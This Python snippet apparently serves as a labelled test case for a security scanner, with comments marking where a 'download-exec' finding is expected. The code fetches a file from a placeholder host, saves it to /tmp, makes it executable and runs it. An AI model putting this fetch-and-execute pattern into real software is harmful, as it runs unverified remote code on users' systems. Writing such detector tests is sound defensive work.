# the fetched bytes are written to p, p is made executable and run
import os
import subprocess
import urllib.request

p = os.path.join("/tmp", "upd")
r = urllib.request.urlopen("https://example.org/u")
data = r.read()
open(p, "wb").write(data)
os.chmod(p, 0o755)  # expect: download-exec
subprocess.call([p])  # expect: download-exec
